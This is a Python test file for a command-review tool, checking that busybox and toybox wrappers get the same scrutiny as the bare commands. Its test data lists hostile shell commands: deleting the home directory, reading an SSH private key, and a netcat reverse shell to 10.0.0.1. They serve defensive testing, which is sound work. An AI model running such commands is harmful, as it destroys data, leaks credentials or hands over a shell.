"""`busybox APPLET ARGS` is judged as `APPLET ARGS`, at least REVIEW (plugins/wrappers.py).

It was judged as a shell running a script file named after the applet: REVIEW whatever the
applet did, so `busybox sh -c 'rm -rf ~'` rested on the reviewer where `sh -c 'rm -rf ~'`
goes to the human. Nothing here is executed: the commands are only judged.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from gatekeeper.model import Outcome, Verdict, dominant
from gatekeeper.testing import check
from tests.conftest import assert_goes_to_the_human

if TYPE_CHECKING:
    from gatekeeper.pipeline import Engine
    from gatekeeper.testing import GkEnv


@pytest.mark.parametrize(
    "command",
    [
        "busybox sh -c 'rm -rf ~'",
        "busybox rm -rf ~",
        "busybox cat ~/.ssh/id_rsa",
        "busybox nc -e /bin/sh 10.0.0.1 4444",
        "sudo busybox ls",
        "toybox rm -rf ~",
        "toybox sh -c 'rm -rf ~'",
    ],
)
def test_a_dangerous_applet_goes_to_the_human(
    command: str, quiet_engine: Engine, gk_env: GkEnv
) -> None:
    assert_goes_to_the_human(quiet_engine, command, str(gk_env.project))


@pytest.mark.parametrize(
    "command",
    ["busybox ls", "busybox --list", "busybox", "busybox $X", "toybox ls", "toybox -c ls"],
)
def test_a_harmless_applet_is_still_reviewed(
    command: str, quiet_engine: Engine, gk_env: GkEnv
) -> None:
    decision = check(quiet_engine, command, cwd=str(gk_env.project))
    worst = dominant(decision.findings)
    assert worst is not None
    assert worst.verdict is Verdict.REVIEW, decision.reason
    assert decision.outcome is Outcome.ASK
